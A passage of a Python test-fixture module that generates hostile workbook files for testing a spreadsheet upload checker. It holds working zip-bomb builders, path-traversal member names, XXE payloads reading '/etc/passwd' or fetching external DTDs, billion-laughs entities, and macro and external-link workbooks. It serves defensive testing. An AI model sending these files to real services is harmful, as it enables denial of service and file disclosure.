"""Hostile and broken workbook files, generated in code for the upload-check tests.

Over 500 lines: the catalogue of hostile files, one small builder each, kept together so the checklist's coverage reads in one file.

Everything is built from bytes here: a small, valid OKR workbook written part by part
(the way Excel lays it out, with a shared-strings table), a raw zip writer that can lie
about sizes, repeat names and carry any member name, and the attacks of the hostile
input checklist (UP-*, ZIP-*, XML-*, GEO-*, TXT-1) built on top of it.
"""

from __future__ import annotations

import io
import socket
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from xml.sax.saxutils import escape

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
GiB = 1024**3
MiB = 1024**2

HEADER = ["Team", "Objective", "Key Result", "Owner", "Baseline", "Target", "Current", "Unit", "Confidence", "Due"]
ROWS: list[list[object]] = [
    [
        "Growth",
        "Win the mid-market",
        "Raise trial-to-paid conversion from 10% to 25%",
        "ana@example.com",
        10,
        25,
        14,
        "%",
        0.7,
        "2026-12-31",
    ],
    [
        "Growth",
        "Win the mid-market",
        "Cut time to first value from 14 to 3 days",
        "ben@example.com",
        14,
        3,
        9,
        "days",
        0.5,
        "2026-12-31",
    ],
    [
        "Platform",
        "Make the product fast",
        "Reduce p95 page load from 2.4 s to 1.2 s",
        "cleo@example.com",
        2.4,
        1.2,
        1.9,
        "s",
        0.6,
        "2026-12-31",
    ],
]


# --- a raw zip writer -------------------------------------------------------------


@dataclass(frozen=True)
class Member:
    """One zip member; the header fields can be made to lie."""

    name: str
    data: bytes = b""
    method: int = 8  # 0 stored, 8 deflated (others only to test refusal)
    raw: bytes | None = None  # an already-deflated stream (for bombs); data is then ignored
    size: int | None = None  # true inflated size when raw is given
    crc: int | None = None
    declared_size: int | None = None  # what the headers claim, if not the truth
    flags: int = 0


def deflate(data: bytes, level: int = 6) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def build_zip(members: Iterable[Member]) -> bytes:
    """Write the members as a zip, exactly as given (duplicates, odd names, lies)."""
    out = io.BytesIO()
    central = []
    for m in members:
        if m.raw is not None:
            payload, size, crc = m.raw, m.size or 0, m.crc or 0
        else:
            payload = deflate(m.data) if m.method == 8 else m.data
            size, crc = len(m.data), zlib.crc32(m.data)
        if m.crc is not None:
            crc = m.crc
        declared = size if m.declared_size is None else m.declared_size
        name = m.name.encode("utf-8")
        flags = m.flags | (0x800 if not m.name.isascii() else 0)
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, flags, m.method, 0, 0x21, crc, len(payload), declared, len(name), 0
            )
        )
        out.write(name)
        out.write(payload)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                flags,
                m.method,
                0,
                0x21,
                crc,
                len(payload),
                declared,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    cd_offset = out.tell()
    for entry in central:
        out.write(entry)
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - cd_offset, cd_offset, 0)
    )
    return out.getvalue()


def repeated_deflate(
    prefix: bytes, segment: bytes, times: int, suffix: bytes, with_crc: bool = True
) -> tuple[bytes, int, int]:
    """A deflate stream of prefix + segment*times + suffix, built in O(len(segment)).

    Each piece ends with a full flush (byte-aligned, dictionary reset), so the same
    compressed block can be repeated: ~1 MB of output inflates to over 1 GiB.
    """

    def block(data: bytes) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)

    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = block(prefix) + block(segment) * times + tail.compress(suffix) + tail.flush()
    size = len(prefix) + len(segment) * times + len(suffix)
    crc = 0
    if with_crc:
        crc = zlib.crc32(prefix)
        for _ in range(times):
            crc = zlib.crc32(segment, crc)
        crc = zlib.crc32(suffix, crc)
    return raw, size, crc


# --- a valid workbook, part by part --------------------------------------------------


class SharedStrings:
    def __init__(self) -> None:
        self.items: list[str] = []
        self.index: dict[str, int] = {}

    def add(self, text: str) -> int:
        if text not in self.index:
            self.index[text] = len(self.items)
            self.items.append(text)
        return self.index[text]

    def xml(self) -> bytes:
        body = "".join(f'<si><t xml:space="preserve">{escape(t)}</t></si>' for t in self.items)
        return (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{MAIN_NS}" '
            f'count="{len(self.items)}" uniqueCount="{len(self.items)}">{body}</sst>'
        ).encode()


def column_letter(index: int) -> str:
    """1 -> A, 16384 -> XFD."""
    letters = ""
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def row_xml(number: int, values: list[object], strings: SharedStrings) -> str:
    cells = []
    for col, value in enumerate(values, start=1):
        ref = f"{column_letter(col)}{number}"
        if value is None:
            continue
        if isinstance(value, (int, float)):
            cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        else:
            cells.append(f'<c r="{ref}" t="s"><v>{strings.add(str(value))}</v></c>')
    return f'<row r="{number}">{"".join(cells)}</row>'


def sheet_xml(
    rows: list[list[object]],
    strings: SharedStrings,
    *,
    dimension: str | None = None,
    tail: str = "",
    before_rows: str = "",
) -> bytes:
    """A worksheet: header + rows from row 1; ``tail`` is raw XML after the rows."""
    body = "".join(row_xml(n, values, strings) for n, values in enumerate(rows, start=1))
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN_NS}" '
        f'xmlns:r="{REL_NS}">{dim}{before_rows}<sheetData>{body}{tail}</sheetData></worksheet>'
    ).encode()


STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{MAIN_NS}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="0" fillId="1" borderId="0" xfId="0" applyFill="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
).encode()

CORE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties '
    b'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
    b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>OKRs</dc:title>'
    b"<dc:creator>Test</dc:creator></cp:coreProperties>"
)

APP = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties '
    b'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    b"<Application>Microsoft Excel</Application></Properties>"
)

WORKBOOK_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORKBOOK_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def workbook_parts(
    sheets: dict[str, list[list[object]]] | None = None,
    *,
    dimension: str | None = None,
    tail: str = "",
    workbook_ct: str = WORKBOOK_CT,
    date1904: bool = False,
) -> dict[str, bytes]:
    """The parts of a valid workbook: one worksheet per entry (default: the OKR sheet)."""
    sheets = sheets if sheets is not None else {"OKRs": [HEADER, *ROWS]}
    strings = SharedStrings()
    parts: dict[str, bytes] = {}
    sheet_entries, sheet_rels, overrides = [], [], []
    for n, (name, rows) in enumerate(sheets.items(), start=1):
        first = n == 1
        parts[f"xl/worksheets/sheet{n}.xml"] = sheet_xml(
            rows, strings, dimension=dimension if first else None, tail=tail if first else ""
        )
        sheet_entries.append(f'<sheet name="{escape(name)}" sheetId="{n}" r:id="rId{n}"/>')
        sheet_rels.append(f'<Relationship Id="rId{n}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{n}.xml"/>')
        overrides.append(
            f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        )
    count = len(sheets)
    sheet_rels.append(f'<Relationship Id="rId{count + 1}" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>')
    sheet_rels.append(f'<Relationship Id="rId{count + 2}" Type="{REL_NS}/styles" Target="styles.xml"/>')
    pr = '<workbookPr date1904="1"/>' if date1904 else "<workbookPr/>"
    parts["xl/workbook.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{MAIN_NS}" '
        f'xmlns:r="{REL_NS}">{pr}<sheets>{"".join(sheet_entries)}</sheets></workbook>'
    ).encode()
    parts["xl/_rels/workbook.xml.rels"] = rels_xml(sheet_rels)
    parts["xl/sharedStrings.xml"] = strings.xml()
    parts["xl/styles.xml"] = STYLES
    parts["docProps/core.xml"] = CORE
    parts["docProps/app.xml"] = APP
    parts["_rels/.rels"] = rels_xml(
        [
            f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>',
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/'
            'metadata/core-properties" Target="docProps/core.xml"/>',
            f'<Relationship Id="rId3" Type="{REL_NS}/extended-properties" Target="docProps/app.xml"/>',
        ]
    )
    parts["[Content_Types].xml"] = content_types(workbook_ct, overrides)
    return parts


def rels_xml(relationships: list[str]) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        f'xmlns="{PKG_REL_NS}">{"".join(relationships)}</Relationships>'
    ).encode()


def content_types(workbook_ct: str, overrides: list[str], defaults: list[str] = ()) -> bytes:  # type: ignore[assignment]
    base = [
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        *defaults,
        f'<Override PartName="/xl/workbook.xml" ContentType="{workbook_ct}"/>',
        '<Override PartName="/xl/sharedStrings.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>',
        '<Override PartName="/xl/styles.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>',
        '<Override PartName="/docProps/core.xml" ContentType='
        '"application/vnd.openxmlformats-package.core-properties+xml"/>',
        '<Override PartName="/docProps/app.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.extended-properties+xml"/>',
        *overrides,
    ]
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="{CT_NS}">{"".join(base)}</Types>'
    ).encode()


def package(parts: dict[str, bytes], extra: Iterable[Member] = ()) -> bytes:
    """Zip the parts ([Content_Types].xml first, as Excel does) plus any raw members."""
    order = sorted(parts, key=lambda n: (n != "[Content_Types].xml", n))
    return build_zip([*(Member(n, parts[n]) for n in order), *extra])


def valid_workbook(**kwargs: object) -> bytes:
    return package(workbook_parts(**kwargs))  # type: ignore[arg-type]


def edit(parts: dict[str, bytes], name: str, change: Callable[[str], str]) -> dict[str, bytes]:
    """A copy of the parts with one part's text changed."""
    copy = dict(parts)
    copy[name] = change(copy[name].decode()).encode()
    return copy


# --- UP-2 / UP-3 / UP-4: formats ---------------------------------------------------


def legacy_xls() -> bytes:
    """A real Excel 97-2003 workbook (BIFF8 in a compound file)."""
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("OKRs")
    for col, name in enumerate(HEADER):
        sheet.write(0, col, name)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def encrypted_xlsx(password: str = "s3cret") -> bytes:
    """A real password-protected .xlsx (ECMA-376 agile encryption in a compound file)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid_workbook())).encrypt(password, out)
    return out.getvalue()


def csv_text() -> bytes:
    return (
        b"Team,Objective,Key Result,Owner,Target\n"
        b"Growth,Win the mid-market,Raise conversion to 25%,ana@example.com,25\n"
    )


def empty_zip() -> bytes:
    return build_zip([])


def truncated_zip() -> bytes:
    data = valid_workbook()
    return data[: len(data) * 2 // 3]


def docx_like() -> bytes:
    """A zip that is a Word document, not a workbook."""
    ct = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}"><Override '
        'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    ).encode()
    return package({"[Content_Types].xml": ct, "word/document.xml": b"<w:document/>"})


def xlsb_like() -> bytes:
    """An Excel Binary Workbook: content types name a binary workbook part."""
    ct = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}"><Override '
        'PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
        "</Types>"
    ).encode()
    rels = rels_xml([f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.bin"/>'])
    return package({"[Content_Types].xml": ct, "_rels/.rels": rels, "xl/workbook.bin": b"\x83\x01\x00"})


def ods_like() -> bytes:
    """An OpenDocument spreadsheet (mimetype first, stored)."""
    return build_zip(
        [
            Member("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
            Member("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
            Member("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
        ]
    )


def damaged_member(part: str = "xl/sharedStrings.xml") -> bytes:
    """The workbook with the middle of one member's compressed data overwritten."""
    parts = workbook_parts()
    data = package(parts)
    raw = deflate(parts[part])
    at = data.index(raw) + len(raw) // 2
    return data[:at] + b"\xff" * 16 + data[at + 16 :]


def sheet_with_damaged_tail(head_rows: int = 5_000) -> bytes:
    """A sheet whose deflate stream is sound for its first ~200 KB and garbage after.

    check_package reads only a sheet's start, so it accepts this file; a check that
    inflated whole sheets would fail on it.
    """
    parts = workbook_parts()
    sheet = parts.pop("xl/worksheets/sheet1.xml")
    filler = b"".join(b'<row r="%d"/>' % n for n in range(10, 10 + head_rows))
    head = sheet.replace(b"</sheetData>", filler)
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    raw = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH) + b"\xff" * (64 * 1024)
    return package(parts, [Member("xl/worksheets/sheet1.xml", raw=raw, size=len(head) + 2 * MiB, crc=0)])


def macro_sheet_workbook() -> bytes:
    """An Excel 4.0 macro sheet (XLM) part alongside the OKR sheet."""
    parts = workbook_parts()
    parts["xl/macrosheets/sheet1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<xm:macrosheet '
        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/macrosheets/sheet1.xml" '
        b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )
    return package(parts)


def with_eocd_count(data: bytes, count: int) -> bytes:
    """The zip with its end record claiming ``count`` entries (a lie)."""
    at = data.rfind(b"PK\x05\x06")
    return data[: at + 8] + struct.pack("<HH", count, count) + data[at + 12 :]


def macro_workbook() -> bytes:
    """An .xlsm: macro-enabled content type and a vbaProject.bin (served under any name)."""
    parts = workbook_parts(workbook_ct=MACRO_WORKBOOK_CT)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "x"' * 8
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return package(parts)


# --- ZIP-1 / ZIP-2 / ZIP-3 ---------------------------------------------------------

SHEET_PREFIX = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData>'
).encode()
SHEET_SUFFIX = b"</sheetData></worksheet>"


def bomb_sheet_member(name: str, inflated: int, *, declared: int | None = None, with_crc: bool = True) -> Member:
    """A worksheet member that inflates to ``inflated`` bytes of empty rows from ~1/1000 of it."""
    segment = b'<row r="1" spans="1:1"/>' * (MiB // 24)  # ~1 MiB of repeated markup
    times = max(1, (inflated - len(SHEET_PREFIX) - len(SHEET_SUFFIX)) // len(segment))
    raw, size, crc = repeated_deflate(SHEET_PREFIX, segment, times, SHEET_SUFFIX, with_crc)
    return Member(name, raw=raw, size=size, crc=crc, declared_size=declared)


def zip_bomb(inflated: int = GiB + 64 * MiB, declared: int | None = None) -> bytes:
    """The OKR workbook whose first sheet inflates past 1 GiB from about 1 MB."""
    parts = workbook_parts()
    del parts["xl/worksheets/sheet1.xml"]
    # No true CRC: nothing may inflate this far to check it (a lying size gets a bad CRC).
    return package(parts, [bomb_sheet_member("xl/worksheets/sheet1.xml", inflated, declared=declared, with_crc=False)])


def ratio_bomb() -> bytes:
    """Under the total budget, but compressed ~1000:1 (a zip bomb in the making)."""
    return zip_bomb(inflated=48 * MiB)


def lying_member(name: str, true_data: bytes, declared: int, honest_crc: bool) -> Member:
    """A member whose headers declare ``declared`` bytes but whose stream inflates to more.

    With ``honest_crc`` the CRC matches the declared prefix, so a reader that stops at the
    declared size sees clean (cut) data; otherwise stopping there shows a CRC error.
    """
    crc = zlib.crc32(true_data[:declared]) if honest_crc else zlib.crc32(true_data)
    return Member(name, raw=deflate(true_data), size=len(true_data), crc=crc, declared_size=declared)


def many_members(count: int) -> bytes:
    parts = workbook_parts()
    extra = [Member(f"customXml/item{i}.bin", b"", method=0) for i in range(count)]
    return package(parts, extra)


def over_declared_total(limit_bytes: int) -> bytes:
    """Members whose declared (true) sizes add up past the budget while each looks modest."""
    segment = b"A" * MiB
    raw, size, _crc = repeated_deflate(b"", segment, 8, b"", with_crc=False)
    crc = zlib.crc32(segment * 8)
    extra = [Member(f"xl/media/image{i}.bin", raw=raw, size=size, crc=crc) for i in range(limit_bytes // size + 1)]
    return package(workbook_parts(), extra)


def duplicate_member(name: str = "xl/worksheets/sheet1.xml", case_variant: bool = False) -> bytes:
    parts = workbook_parts()
    other = name.upper() if case_variant else name
    decoy = sheet_xml([HEADER, ["Evil", "Decoy objective", "Decoy KR", "eve@example.com"]], SharedStrings())
    return package(parts, [Member(other, decoy)])


UNSAFE_NAMES = [
    "../../evil.txt",
    "/etc/evil.txt",
    "C:\\Windows\\evil.txt",
    "C:/Windows/evil.txt",
    "xl/../../evil.txt",
    "xl\\..\\..\\evil.txt",
]


def traversal_members(names: Iterable[str] = UNSAFE_NAMES) -> bytes:
    return package(workbook_parts(), [Member(n, b"owned") for n in names])


# --- XML-1: DTDs, entities, processing instructions -----------------------------------


def doctype_payloads(port: int) -> dict[str, tuple[str, str | None]]:
    """name -> (what goes before the root element, the entity reference to use or None)."""
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    return {
        "billion_laughs": (f"<!DOCTYPE r [{laughs}]>", "lol9"),
        "quadratic_blowup": (f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>', "a"),
        "system_file_entity": ('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "e"),
        "system_http_entity": (f'<!DOCTYPE r [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/e.txt">]>', "e"),
        "external_dtd": (f'<!DOCTYPE r SYSTEM "http://127.0.0.1:{port}/x.dtd">', None),
        "parameter_entity": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p.dtd"> %p;]>', None),
        "xml_stylesheet_pi": (f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{port}/s.xsl"?>', None),
    }


# Where an entity reference goes in each part, so the payload is live, not just declared.
REF_SPOTS: dict[str, tuple[str, str]] = {
    "xl/sharedStrings.xml": ('<t xml:space="preserve">Team</t>', '<t xml:space="preserve">&{ref};</t>'),
    "xl/worksheets/sheet1.xml": (
        "<sheetData>",
        '<sheetData><row r="1"><c r="Z1" t="inlineStr"><is><t>&{ref};</t></is></c></row>',
    ),
    "xl/workbook.xml": ('name="OKRs"', 'name="&{ref};"'),
    "docProps/core.xml": ("<dc:title>OKRs</dc:title>", "<dc:title>&{ref};</dc:title>"),
}
XML_PARTS = [
    "xl/sharedStrings.xml",
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "docProps/core.xml",
    "xl/styles.xml",
    "xl/_rels/workbook.xml.rels",
    "_rels/.rels",
    "[Content_Types].xml",
    "docProps/app.xml",
]


def with_doctype(part: str, payload: str, ref: str | None) -> bytes:
    """The OKR workbook with ``payload`` placed before the root element of ``part``."""
    parts = workbook_parts()
    text = parts[part].decode()
    decl, _, rest = text.partition("\n")
    if ref and part in REF_SPOTS:
        old, new = REF_SPOTS[part]
        rest = rest.replace(old, new.format(ref=ref), 1)
    parts[part] = f"{decl}\n{payload}\n{rest}".encode()
    return package(parts)


def with_doctype_text(xml: bytes, port: int = 9) -> bytes:
    """One part's XML with an external-entity DOCTYPE after its declaration."""
    decl, _, rest = xml.decode().partition("\n")
    return f'{decl}\n<!DOCTYPE r [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/e">]>\n{rest}'.encode()


def utf16_doctype(part: str = "xl/sharedStrings.xml") -> bytes:
    """A DTD hidden from byte searches by encoding the part in UTF-16."""
    parts = workbook_parts()
    rest = parts[part].decode().partition("\n")[2]
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + rest
    parts[part] = text.encode("utf-16")
    return package(parts)


def declared_encoding(part: str, encoding: str, body_codec: str = "ascii") -> bytes:
    parts = workbook_parts()
    rest = parts[part].decode().partition("\n")[2]
    parts[part] = f'<?xml version="1.0" encoding="{encoding}"?>\n{rest}'.encode(body_codec, "replace")
    return package(parts)


def utf32_part(part: str = "xl/workbook.xml", bom: bool = True) -> bytes:
    parts = workbook_parts()
    parts[part] = parts[part].decode().encode("utf-32" if bom else "utf-32-le")
    return package(parts)


def dtd_after_root(part: str = "xl/sharedStrings.xml") -> bytes:
    """A processing instruction in the body of a part, past the prolog."""
    parts = edit(workbook_parts(), part, lambda t: t.replace("</sst>", '<?xml-stylesheet href="x.xsl"?></sst>'))
    return package(parts)


# --- GEO-4: strict, relationships, missing parts -----------------------------------------

STRICT = {
    MAIN_NS: "http://purl.oclc.org/ooxml/spreadsheetml/main",
    REL_NS: "http://purl.oclc.org/ooxml/officeDocument/relationships",
}


def strict_ooxml(only: str | None = None) -> bytes:
    """A Strict Open XML workbook (namespaces under purl.oclc.org); ``only`` limits the rewrite."""
    parts = workbook_parts()
    for name, data in parts.items():
        if only and name != only:
            continue
        text = data.decode()
        for old, new in STRICT.items():
            text = text.replace(old, new)
        parts[name] = text.encode()
    return package(parts)


def bad_relationship(
    target: str, part: str = "xl/_rels/workbook.xml.rels", rel_type: str = "worksheet", rel_id: str = "rId1"
) -> bytes:
    """A relationship (internal: no TargetMode) pointing at ``target``."""
    parts = workbook_parts()
    text = parts[part].decode()
    marker = f'Id="{rel_id}" Type="{REL_NS}/{rel_type}" Target="'
    start = text.index(marker) + len(marker)
    end = text.index('"', start)
    parts[part] = (text[:start] + escape(target, {'"': "&quot;"}) + text[end:]).encode()
    return package(parts)


def extra_relationship(target: str, external: bool, part: str = "xl/worksheets/_rels/sheet1.xml.rels") -> bytes:
    parts = workbook_parts()
    mode = ' TargetMode="External"' if external else ""
    parts[part] = rels_xml([f'<Relationship Id="rId1" Type="{REL_NS}/hyperlink" Target="{escape(target)}"{mode}/>'])
    return package(parts)


def without(*names: str) -> bytes:
    parts = workbook_parts()
    for name in names:
        del parts[name]
    return package(parts)


def external_link_workbook(target: str) -> bytes:
    """A workbook with an external link (to ``target``), a formula using it, a WEBSERVICE and
    HYPERLINK formula, and a hyperlink relationship: none may be followed."""
    rows = [HEADER, *ROWS]
    strings = SharedStrings()
    tail = (
        f'<row r="10"><c r="A10"><f>[1]Sheet1!A1</f><v>5</v></c>'
        f'<c r="B10"><f>WEBSERVICE("{escape(target)}")</f></c>'
        f'<c r="C10" t="str"><f>HYPERLINK("{escape(target)}","x")</f><v>x</v></c></row>'
    )
    parts = workbook_parts()
    parts["xl/worksheets/sheet1.xml"] = sheet_xml(rows, strings, tail=tail).replace(
        b"</sheetData>", b'</sheetData><hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks>'
    )
    parts["xl/sharedStrings.xml"] = strings.xml()
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = rels_xml(
        [f'<Relationship Id="rId1" Type="{REL_NS}/hyperlink" Target="{escape(target)}" TargetMode="External"/>']
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>5</v></cell></row>'
        "</sheetData></sheetDataSet></externalBook></externalLink>"
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels_xml(
        [f'<Relationship Id="rId1" Type="{REL_NS}/externalLinkPath" Target="{escape(target)}" TargetMode="External"/>']
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId50" Type="{REL_NS}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode(),
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rId50"/></externalReferences>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    return package(parts)


# --- TXT-3: control characters --------------------------------------------------------


def control_chars_in_strings(raw: str) -> bytes:
    """``raw`` (a raw control character or a character reference) inside a KR's text."""
    parts = edit(
        workbook_parts(),
        "xl/sharedStrings.xml",
        lambda t: t.replace("Raise trial-to-paid", f"Raise{raw}trial-to-paid", 1),
    )
    return package(parts)


# --- GEO-1 / GEO-2 / big strings / shared strings -------------------------------------------


def shared_strings_entries(count: int, declare: bool) -> bytes:
    """A sharedStrings table of at least ``count`` short entries (the OKR sheet uses the first few).

    Built from a repeated 4,096-entry block longer than deflate's window, so it compresses
    like real text (about 8:1), not like a bomb.
    """
    parts = workbook_parts()
    del parts["xl/sharedStrings.xml"]
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN_NS}"'
    if declare:
        head += f' count="{count}" uniqueCount="{count}"'
    strings = SharedStrings()
    sheet_xml([HEADER, *ROWS], strings)  # the same indexes the OKR sheet uses
    known = "".join(f"<si><t>{escape(t)}</t></si>" for t in strings.items)
    unit = b"".join(b"<si><t>%x</t></si>" % i for i in range(4096))
    times = -(-(count - len(strings.items)) // 4096)
    raw, size, crc = repeated_deflate((head + ">" + known).encode(), unit, times, b"</sst>")
    return package(parts, [Member("xl/sharedStrings.xml", raw=raw, size=size, crc=crc)])


def huge_dimension(sparse_corner: bool = True) -> bytes:
    """<dimension ref="A1:XFD1048576"> with, optionally, one real cell at XFD1048576."""
    tail = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' if sparse_corner else ""
    return package(workbook_parts(dimension="A1:XFD1048576", tail=tail))


def styled_empty_rows(count: int = 1_000_000) -> bytes:
    """The OKR rows followed by ``count`` empty rows that carry a style (GEO-2)."""
    parts = workbook_parts()
    first = len(ROWS) + 2
    rows = b"".join(
        b'<row r="%d" s="1" customFormat="1" ht="15" customHeight="1"/>' % n for n in range(first, first + count)
    )
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"</sheetData>", rows + b"</sheetData>")
    return package(parts)


def many_sheets(count: int) -> bytes:
    """The OKR sheet plus ``count - 1`` small unrelated sheets."""
    sheets: dict[str, list[list[object]]] = {"OKRs": [HEADER, *ROWS]}
    for n in range(2, count + 1):
        sheets[f"Notes {n}"] = [["Note", "Value"], [f"memo {n}", n]]
    return package(workbook_parts(sheets))


def long_cells(lengths: Iterable[int]) -> tuple[bytes, list[str]]:
    """One KR row per length, its Key Result text that long; returns (file, the texts)."""
    texts = [(f"Raise retention {n} " + "x" * n)[:n] for n in lengths]
    rows = [
        HEADER,
        *(
            [ROWS[0][0], ROWS[0][1], text, f"o{i}@example.com", 1, 2, 1, "", 0.5, "2026-12-31"]
            for i, text in enumerate(texts)
        ),
